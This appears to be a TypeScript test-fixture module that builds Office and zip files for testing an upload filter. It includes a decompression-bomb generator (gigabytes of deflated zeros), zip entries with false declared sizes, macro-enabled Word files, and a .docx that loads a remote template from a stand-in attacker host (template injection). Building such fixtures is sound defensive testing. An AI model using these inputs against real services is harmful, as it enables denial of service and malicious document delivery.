import { constants, crc32, deflateRawSync } from 'node:zlib';
import * as CFB from 'cfb';

/**
 * Documents for upload tests, built here rather than checked in: zips written entry by entry
 * (stored or deflated, with sizes that may lie), real compound (OLE2/CFB) files written by `cfb`,
 * and the impostors the upload check must refuse.
 */

export interface ZipEntry {
  name: string;
  content?: string | Buffer;
  /** Raw deflate data to store as the entry's bytes (content is then ignored). */
  deflated?: Buffer;
  /** The uncompressed size the headers claim (default: the real one). */
  declaredSize?: number;
}

/** A zip archive with these entries, in this order: stored, or deflated when `deflate` is set. */
export function zip(entries: ([name: string, content: string | Buffer] | ZipEntry)[], { deflate = false } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const item of entries) {
    const entry: ZipEntry = Array.isArray(item) ? { name: item[0], content: item[1] } : item;
    const raw = Buffer.isBuffer(entry.content) ? entry.content : Buffer.from(entry.content ?? '', 'utf8');
    const method = entry.deflated || deflate ? 8 : 0;
    const data = entry.deflated ?? (deflate ? deflateRawSync(raw) : raw);
    const size = entry.declaredSize ?? raw.length;
    const crc = entry.deflated ? 0 : crc32(raw);
    const fileName = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(fileName.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(fileName.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fileName, data);
    centrals.push(central, fileName);
    offset += local.length + fileName.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const MiB = 1024 * 1024;

/**
 * A raw deflate stream that expands to `mebibytes` MiB of zeros, built without holding them:
 * one sync-flushed MiB of zeros (about 1 KB, byte-aligned and not final) repeated, then an
 * empty final block. 2048 MiB take about 2 MB.
 */
export function deflatedZeros(mebibytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(MiB), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return Buffer.concat([...Array<Buffer>(mebibytes).fill(block), Buffer.from([0x03, 0x00])]);
}

export const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
export const WORD_MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';
export const WORD_TEMPLATE_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
const OFFICE_DOCUMENT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export function contentTypes(overrides: Record<string, string>, defaults: Record<string, string> = {}): string {
  const all = { rels: 'application/vnd.openxmlformats-package.relationships+xml', xml: 'application/xml', ...defaults };
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    Object.entries(all)
      .map(([ext, type]) => `<Default Extension="${ext}" ContentType="${type}"/>`)
      .join('') +
    Object.entries(overrides)
      .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
      .join('') +
    '</Types>'
  );
}

export function relationships(rels: { type: string; target: string; external?: boolean }[]): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    rels
      .map((r, i) => `<Relationship Id="rId${i + 1}" Type="${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`)
      .join('') +
    '</Relationships>'
  );
}

function documentXml(text: string): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    `<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`
  );
}

export interface DocxOptions {
  text?: string;
  /** The main part's content type (default WordprocessingML's document). */
  mainType?: string;
  /** Parts added to the package, e.g. `word/vbaProject.bin`. */
  extra?: ZipEntry[];
  /** Extra `Override`s and `Default`s of [Content_Types].xml. */
  overrides?: Record<string, string>;
  defaults?: Record<string, string>;
  /** Relationships of word/document.xml (word/_rels/document.xml.rels). */
  documentRels?: { type: string; target: string; external?: boolean }[];
  deflate?: boolean;
}

/** A Word Open XML document (.docx) as Word lays it out, with options to make it something else. */
export function docx(options: DocxOptions | string = {}): Buffer {
  const o = typeof options === 'string' ? { text: options } : options;
  const entries: ZipEntry[] = [
    { name: '[Content_Types].xml', content: contentTypes({ '/word/document.xml': o.mainType ?? WORD_MAIN, ...o.overrides }, o.defaults) },
    { name: '_rels/.rels', content: relationships([{ type: OFFICE_DOCUMENT, target: 'word/document.xml' }]) },
    { name: 'word/document.xml', content: documentXml(o.text ?? 'Duty procedures') },
  ];
  if (o.documentRels) entries.push({ name: 'word/_rels/document.xml.rels', content: relationships(o.documentRels) });
  return zip([...entries, ...(o.extra ?? [])], { deflate: o.deflate });
}

/** A macro-enabled Word document (.docm), as Word saves one. */
export function docm(): Buffer {
  return docx({
    mainType: WORD_MACRO_MAIN,
    defaults: { bin: 'application/vnd.ms-office.vbaProject' },
    documentRels: [{ type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' }],
    extra: [{ name: 'word/vbaProject.bin', content: CFB.write(CFB.utils.cfb_new(), { type: 'buffer' }) as Buffer }],
  });
}

/** A .docx whose settings attach a template from a web address (template injection). */
export function docxWithRemoteTemplate(target = 'https://attacker.example/t.dotm'): Buffer {
  return docx({ documentRels: [{ type: `${REL}/attachedTemplate`, target, external: true }] });
}

/** A .docx with an ordinary link to a web page. */
export function docxWithHyperlink(): Buffer {
  return docx({ documentRels: [{ type: `${REL}/hyperlink`, target: 'https://www.gov.uk/', external: true }] });
}

const CFB_SIGNATURE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

/**
 * A compound-file header followed by a directory sector naming these streams (e.g.
 * WordDocument): the bytes a Word file has, without the structure (no allocation table).
 */
export function compoundFile(streams: string[]): Buffer {
  const header = Buffer.alloc(512);
  CFB_SIGNATURE.copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector shift
  header.writeUInt16LE(6, 32); // mini sector shift
  const directory = Buffer.alloc(512);
  ['Root Entry', ...streams].slice(0, 4).forEach((name, i) => {
    const encoded = Buffer.from(name, 'utf16le');
    encoded.copy(directory, i * 128);
    directory.writeUInt16LE(encoded.length + 2, i * 128 + 64);
    directory.writeUInt8(i === 0 ? 5 : 2, i * 128 + 66);
  });
  return Buffer.concat([header, directory]);
}

/** A real compound file with these streams (paths like `Macros/VBA/dir` make storages). */
export function compound(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${path}`, content);
  return CFB.write(container, { type: 'buffer' }) as Buffer;
}

/** The start of a Word 97–2003 WordDocument stream: its FIB, with the table stream's bit and flags. */
export function wordFib({ template = false, table = 1 }: { template?: boolean; table?: 0 | 1 } = {}): Buffer {
  const fib = Buffer.alloc(1472);
  fib.writeUInt16LE(0xa5ec, 0); // wIdent: Word 97 and later
  fib.writeUInt16LE(0x00c1, 2); // nFib
  fib.writeUInt16LE(0x0409, 6); // lid: English (US)
  fib.writeUInt16LE((template ? 0x0001 : 0) | (table ? 0x0200 : 0), 10);
  return fib;
}

export interface DocOptions {
  template?: boolean;
  macros?: boolean;
}

/** A Word 97–2003 document (.doc) as far as its container and FIB go, written by `cfb`. */
export function doc({ template = false, macros = false }: DocOptions = {}): Buffer {
  return compound({
    WordDocument: wordFib({ template }),
    '1Table': Buffer.alloc(1024),
    ...(macros ? { 'Macros/VBA/dir': Buffer.from([1, 2, 3]), 'Macros/PROJECT': Buffer.from('ID="{00000000}"\r\n') } : {}),
  });
}
